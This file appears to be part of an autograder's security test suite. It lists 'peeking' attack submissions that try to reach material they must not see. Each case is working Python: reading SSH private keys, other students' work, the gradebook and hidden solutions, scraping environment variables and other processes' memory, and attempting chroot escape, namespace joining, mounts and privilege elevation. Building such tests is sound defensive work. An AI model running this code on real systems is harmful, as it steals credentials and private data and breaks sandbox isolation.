"""Submissions that look for what they must not see: tests, solutions, other people's files, keys, the grader's memory."""

from tests.attacks.model import attack

FAMILY = "peeking"


def _peek(name: str, first: str = "", **parts: object) -> None:
    attack(name, str(parts.pop("aims", "r")), family=FAMILY, first=first, **{"tasks": ("total",), **parts})


FIND = """
import os, re
from pathlib import Path

found = set()

def search(data):
    found.update(re.findall(rb"tok[0-9a-f]{20}", data))

def tell():
    for token in found:
        print(token.decode())
"""
READ = (
    FIND
    + """
def read(path):
    try:
        with open(path, "rb") as file:
            search(file.read(4_000_000))
    except OSError:
        pass

def walk(root, most=3000):
    for folder, folders, names in os.walk(root):
        folders[:] = [name for name in folders if name not in ("proc", "sys")]
        for name in names:
            path = os.path.join(folder, name)
            if not os.path.isfile(path):
                continue
            read(path)
            most -= 1
            if most < 0:
                return
"""
)
_peek("ssh-keys", READ + "read('@HOME@/.ssh/id_ed25519')\nread(os.path.expanduser('~/.ssh/id_ed25519'))\ntell()")
_peek("home", READ + "walk('@HOME@')\nwalk(os.path.expanduser('~'), 300)\ntell()")
_peek("other-submission", READ + "walk('@COHORT@/submitted')\ntell()")
_peek("gradebook-read", READ + "read('@COHORT@/gradebook.db')\ntell()")
_peek("hidden-tests-in-solutions", READ + "walk('@COURSE@')\nread('../../solutions/a1/a1.ipynb')\ntell()")
_peek("siblings", READ + "for up in ('..', '../..', '../../..', '@TMP@', '/mnt'):\n    walk(up, 400)\ntell()")
_peek("environment", FIND + "search('\\n'.join(f'{k}={v}' for k, v in os.environ.items()).encode())\ntell()")
_peek(
    "grading-mode",
    """
import os
for name, value in os.environ.items():
    if "grad" in (name + value).lower():
        won(name)
""",
)
_peek(
    "proc-environ",
    READ
    + """
for pid in os.listdir("/proc"):
    if pid.isdigit():
        read(f"/proc/{pid}/environ")
        read(f"/proc/{pid}/cmdline")
tell()
""",
)
_peek(
    "proc-cwd-root-fd",
    READ
    + """
for pid in os.listdir("/proc"):
    if pid.isdigit():
        walk(f"/proc/{pid}/cwd/", 200)
        for place in ("@HOME@", "@COHORT@", "@COURSE@"):
            walk(f"/proc/{pid}/root{place}", 50)
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
                if target.startswith("/") and os.path.isfile(f"/proc/{pid}/fd/{fd}"):
                    read(f"/proc/{pid}/fd/{fd}")
        except OSError:
            pass
tell()
""",
)
_peek(
    "proc-mem",
    FIND
    + """
def memory(pid):
    budget = 150_000_000
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                span, mode, _, _, inode = line.split()[:5]
                start, end = (int(part, 16) for part in span.split("-"))
                if "rw" not in mode or inode != "0":
                    continue
                while start < end and budget > 0:
                    mem.seek(start)
                    data = mem.read(min(end - start, 1 << 22))
                    search(data)
                    budget -= len(data)
                    start += len(data) or end
    except OSError:
        pass

for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
    memory(pid)
tell()
""",
    last="for pid in sorted((p for p in os.listdir('/proc') if p.isdigit()), key=int):\n    memory(pid)\ntell()",
)
_peek(
    "process-vm-readv",
    FIND
    + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)

class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

room = ctypes.create_string_buffer(1 << 22)
seen = 0
own = {str(os.getpid())}
for pid in os.listdir("/proc"):
    if not pid.isdigit() or pid in own:
        continue
    try:
        lines = open(f"/proc/{pid}/maps").read().splitlines()
    except OSError:
        lines = []
    for line in lines:
        span, mode, _, _, inode = line.split()[:5]
        start, end = (int(part, 16) for part in span.split("-"))
        if "rw" not in mode or inode != "0":
            continue
        size = min(end - start, 1 << 22)
        got = libc.process_vm_readv(int(pid), ctypes.byref(Span(ctypes.addressof(room), size)), 1,
                                    ctypes.byref(Span(start, size)), 1, 0)
        if got > 0:
            search(room.raw[:got])
tell()
""",
)
_peek(
    "memory-of-objects",
    FIND
    + """
def objects():
    import gc
    for thing in gc.get_objects():
        if type(thing) is dict:
            values = list(thing.values())
        elif type(thing) in (list, tuple):
            values = list(thing)[:1000]
        else:
            continue
        for value in values:
            if type(value) is str:
                search(value.encode(errors="replace"))
            elif type(value) is bytes:
                search(value)
""",
    answers={
        "total": "def total(rows):\n    objects()\n    import linecache, sys\n"
        "    for entry in list(linecache.cache.values()):\n        search(repr(entry).encode())\n    tell()\n    return None"
    },
    tasks=("total", "label"),
)
_peek("history", FIND, last="search(repr(get_ipython().user_ns.get('In')).encode())\ntell()")
_peek(
    "solutions-executed",
    """
import json
from pathlib import Path

def solution(task):
    for place in ("@COURSE@/solutions/a1/a1.ipynb", "../../../course/solutions/a1/a1.ipynb"):
        if Path(place).is_file():
            for cell in json.loads(Path(place).read_text())["cells"]:
                if cell["id"] == task:
                    exec("".join(cell["source"]), get_ipython().user_ns)
""",
    answers={"total": "solution('total')"},
    aims="p",
)
_peek(
    "link-in-submission",
    READ + "read('key')\nread('bob/notes.txt')\nread('book.db')\ntell()",
    links={"key": "@HOME@/.ssh/id_ed25519", "bob": "@COHORT@/submitted/bob/a1", "book.db": "@COHORT@/gradebook.db"},
)
_peek(
    "link-for-the-judge",
    answers={
        "file": """
import os
os.symlink("@HOME@/notes.txt", "result.json")
os.symlink("@COHORT@/submitted/bob/a1/notes.txt", "weights.npy")
def loads(text):
    print(text)
json.loads = loads
"""
    },
    tasks=("file",),
)
_peek(
    "link-made-for-the-judge",
    answers={
        "file": """
import os
from pathlib import Path
for name in ("result.json", "weights.npy"):
    os.path.lexists(name) and os.unlink(name)
os.symlink("@COURSE@/solutions/a1/a1.ipynb", "result.json")
print(Path("result.json").read_text())
"""
    },
    tasks=("file",),
)
_peek(
    "open-descriptors",
    READ
    + """
import stat
for fd in range(0, 256):
    try:
        mode = os.fstat(fd).st_mode
        if stat.S_ISREG(mode):
            search(os.pread(fd, 4_000_000, 0))
        if stat.S_ISDIR(mode):
            for name in os.listdir(fd):
                won(f"a folder is open: {name}")
    except OSError:
        pass
tell()
""",
    unaffected="plain execution inherits no open files here",
)
_peek(
    "open-descriptor-escape",
    READ
    + """
for fd in range(0, 256):
    for up in range(1, 8):
        try:
            folder = os.open("../" * up + "@HOME@/.ssh".lstrip("/"), os.O_RDONLY, dir_fd=fd)
            search(os.read(os.open("id_ed25519", os.O_RDONLY, dir_fd=folder), 1000))
        except OSError:
            pass
tell()
""",
    unaffected="there is nothing to escape from",
)
_peek(
    "chroot-escape",
    READ
    + """
try:
    os.mkdir("jail")
    there = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(there)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
except OSError:
    pass
read("@HOME@/.ssh/id_ed25519")
tell()
""",
)
_peek(
    "new-namespace",
    READ
    + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000 | 0x20000) == 0:
    won("unshared")
for kind in ("mnt", "user", "pid", "net"):
    for pid in ("1", "@SUPERVISOR@"):
        try:
            if libc.setns(os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY), 0) == 0:
                won(f"joined {kind} of {pid}")
        except OSError:
            pass
read("@HOME@/.ssh/id_ed25519")
tell()
""",
)
_peek(
    "remount",
    """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("m", exist_ok=True)
for source, kind in ((b"proc", b"proc"), (b"tmpfs", b"tmpfs"), (b"sysfs", b"sysfs")):
    if libc.mount(source, b"m", kind, 0, None) == 0:
        won("mounted")
        libc.umount2(b"m", 2)
""",
)
_peek(
    "privileges",
    """
import os
for change in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0])):
    try:
        change()
    except OSError:
        pass
try:
    open("/proc/sys/kernel/core_pattern", "a").close()
    won("can set the kernel's parameters")
except OSError:
    pass
for line in open("/proc/self/status"):
    if line.startswith("CapEff") and int(line.split()[1], 16):
        won("capabilities " + line.split()[1])
""",
    unaffected="it depends on who runs the grader: as root it succeeds, as a user it has nothing to gain",
)
